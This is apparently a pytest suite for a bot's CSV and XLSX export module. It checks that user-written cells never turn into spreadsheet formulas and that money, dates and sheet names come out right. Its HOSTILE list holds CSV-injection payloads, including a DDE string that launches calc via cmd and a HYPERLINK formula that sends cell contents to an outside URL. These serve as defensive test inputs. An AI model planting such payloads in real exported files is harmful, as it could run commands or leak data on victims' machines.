"""Tables as CSV and XLSX: whatever readers wrote, no cell is a formula and every file opens."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from fractions import Fraction
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot import exports
from bot.exports import Cell, FileKind, Money, Sheet

HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "＝1+1", "＋86", "－1", "＠我",
    '=HYPERLINK("http://example.org?"&A1,"点这里")', "#N/A", "#REF!", "_x000D_", "_x0041_", "a\x00b", "\x1b[31m", "\x0b",
    "半\ud800个", "\ufffe", "\uffff", "真|“引”,\"号\"", "两\r\n行", "<b>&amp;", "", " ", "'", "🐦", "字" * 40_000,
    "_x0041_" * 6_000,
]
MOMENT = datetime(2026, 11, 9, 16, 30, tzinfo=UTC)


def sheet(*cells: Cell) -> Sheet:
    return Sheet("表", ["内容"], [[cell] for cell in cells])


def naive(text: str) -> datetime:
    return datetime.fromisoformat(text)


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def book(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content))


def xlsx_cells(content: bytes) -> list[Any]:
    return [row[0] for row in book(content).active.iter_rows(min_row=2)]


def xml_parts(content: bytes) -> dict[str, ElementTree.Element]:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return {name: ElementTree.fromstring(packed.read(name)) for name in packed.namelist()}


def test_csv_begins_with_a_byte_order_mark_and_ends_lines_as_spreadsheets_do() -> None:
    assert exports.to_csv([sheet("字", "a,b")]) == '\ufeff内容\r\n字\r\n"a,b"\r\n'.encode()


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\ta", "'\ta"), ("\ra", "'\na"), ("\na", "'\na"),
    ("＝1", "'＝1"), ("a=1", "a=1"), ("“=”", "“=”"), ("", ""), (None, ""), (-1, "-1"), (-1.5, "-1.5"), (0.1 + 0.2, "0.3"),
    (Fraction(1, 3), "0.333333"), (Decimal("2.50"), "2.5"), (float("nan"), ""), (float("inf"), ""), (True, "True"),
    (Money(12_500), "125.00"), (Money(5), "0.05"), (Money(-1), "-0.01"), (Money(10**12 + 7), "10000000000.07"),
    (date(2026, 11, 9), "2026-11-09"), (MOMENT, "2026-11-10 00:30:00"), ("a\x00b", "ab"), ("半\ud800个", "半个"),
])  # fmt: skip
def test_csv_cell(cell: Cell, written: str) -> None:
    content = exports.to_csv([sheet(cell, "末")])
    assert csv_cells(content)[1] in ([written], [] if written == "" else [written])


def test_sums_of_money_are_numbers_of_yuan_with_two_decimals() -> None:
    cells = [row[0] for row in book(exports.to_xlsx([sheet(Money(12_500), Money(3_333))])).active.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type, cell.number_format) for cell in cells] == [(125, "n", "0.00"), (33.33, "n", "0.00")]


def test_several_tables_stand_below_each_other_in_one_csv_file() -> None:
    content = exports.to_csv([Sheet("甲", ["a"], [["1"]]), Sheet("=乙", ["b", "c"], [["2"]])])
    assert csv_cells(content) == [["甲"], ["a"], ["1"], [], ["'=乙"], ["b", "c"], ["2"]]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_is_a_formula_in_csv(text: str) -> None:
    for row in csv_cells(exports.to_csv([sheet(text)]))[1:]:
        for cell in row:
            assert not cell.startswith(exports.STARTS_FORMULA)


@pytest.mark.sampled
@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_text_is_a_plain_text_in_xlsx(text: str) -> None:
    content = exports.to_xlsx([Sheet(text, [text], [[text]])])
    for part in xml_parts(content).values():
        assert not [element for element in part.iter() if element.tag.endswith("}f")]
    for cell in [*xlsx_cells(content), book(content).active["A1"]]:
        assert cell.data_type in {"s", "n"}  # n: nothing in it
        assert cell.data_type == "s" or cell.value is None
        assert len(cell.value or "") <= exports.LONGEST_CELL


@pytest.mark.parametrize(("cell", "held"), [
    ("=1+1", "=1+1"), ("#N/A", "#N/A"), ("-1", "-1"), ("a\x00b", "ab"), ("两\r\n行", "两\n行"), (" 字 ", " 字 "),
    ("_x0041_", "_x005F_x0041_"), ("x_a_", "x_a_"), (-3, -3), (1.25, 1.25), (Fraction(1, 3), 0.333333), (None, None),
    (float("nan"), None), (date(2026, 11, 9), naive("2026-11-09")), (MOMENT, naive("2026-11-10 00:30")),
])  # fmt: skip
def test_xlsx_cell(cell: Cell, held: object) -> None:
    content = exports.to_xlsx([sheet(cell, "末")])
    assert [one.value for one in xlsx_cells(content)] == [held, "末"]


def test_a_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
    held = xlsx_cells(exports.to_xlsx([sheet("字" * 40_000)]))[0].value
    assert (len(held), held[-2:]) == (exports.LONGEST_CELL, "字…")


def test_the_heading_is_bold_and_stays_in_sight_and_columns_are_as_wide_as_their_texts() -> None:
    page = book(exports.to_xlsx([Sheet("表", ["月", "说明"], [["2026-11", "十个汉字一共二十格宽"], ["a" * 500, 1]])])).active
    assert (page["A1"].font.bold, page["B1"].font.bold, bool(page["A2"].font.bold)) == (True, True, False)
    assert page.freeze_panes == "A2"
    assert [page.column_dimensions[letter].width for letter in "AB"] == [exports.WIDEST, 22]


@pytest.mark.parametrize(("titles", "names"), [
    (["表", "表"], ["表", "表 2"]), (["A", "a"], ["A", "a 2"]), ([""], ["表"]), (["a/b:c*?[d]\\"], ["a b c   d"]),
    (["字" * 40, "字" * 40], ["字" * 31, "字" * 29 + " 2"]), (["'引'"], ["引"]),
])  # fmt: skip
def test_names_of_sheets_are_such_as_spreadsheets_take(titles: list[str], names: list[str]) -> None:
    assert book(exports.to_xlsx([Sheet(title, ["a"], []) for title in titles])).sheetnames == names


def test_a_naive_moment_is_refused() -> None:
    for kind in FileKind:
        with pytest.raises(ValueError, match="naive"):
            exports.write([sheet(naive("2026-11-09"))], kind)


def test_a_row_longer_than_the_headings_is_refused() -> None:
    for kind in FileKind:
        with pytest.raises(ValueError, match="headings"):
            exports.write([Sheet("表", ["a"], [["1", "2"]])], kind)


@pytest.mark.slow
@given(st.lists(st.text() | st.integers(-10**9, 10**9) | st.floats() | st.none(), min_size=1, max_size=5))
@settings(max_examples=60, deadline=None)
def test_any_cells_make_files_that_open_with_as_many_rows(cells: list[Cell]) -> None:
    table = Sheet("表", ["甲", "乙"], [["第", cell] for cell in cells])
    content = exports.write([table], FileKind.XLSX)
    assert all(not element.tag.endswith("}f") for part in xml_parts(content).values() for element in part.iter())
    assert book(content).active.max_row == len(cells) + 1
    rows = csv_cells(exports.write([table], FileKind.CSV))
    assert len(rows) == len(cells) + 1
    texts = [row[1] for cell, row in zip(cells, rows[1:], strict=True) if isinstance(cell, str)]
    assert not any(text.startswith(exports.STARTS_FORMULA) for text in texts)
